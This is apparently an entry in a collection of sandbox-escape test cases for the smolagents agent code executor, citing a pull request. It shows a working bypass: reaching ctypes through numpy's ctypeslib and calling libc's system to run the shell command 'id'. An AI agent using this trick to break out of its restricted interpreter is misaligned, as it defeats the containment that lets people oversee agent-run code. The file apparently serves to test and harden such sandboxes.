# Source: https://github.com/huggingface/smolagents/pull/929 (ctypes write a file via libc)
# Family: data-is-code
# What: np.ctypeslib.ctypes exposes the ctypes module: CDLL(None).system
import numpy as np

ct = np.ctypeslib.ctypes
ct.CDLL(None).system(b"id")
